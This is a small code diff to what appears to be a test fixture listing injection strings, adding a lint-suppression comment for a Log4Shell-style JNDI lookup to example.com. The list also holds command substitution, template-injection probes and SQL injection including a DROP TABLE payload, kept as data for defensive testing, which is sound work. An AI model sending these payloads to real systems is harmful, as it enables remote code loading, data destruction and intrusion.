@@ -25,6 +25,7 @@ const INJECTIONS = [
   '`id`',
   '{{7*7}}',
   '{{constructor.constructor("return process")()}}',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell-style lookup, sent as text on purpose
   '${jndi:ldap://example.com/a}',
   "' OR 1=1; --",
   "Robert'); DROP TABLE connections;--",
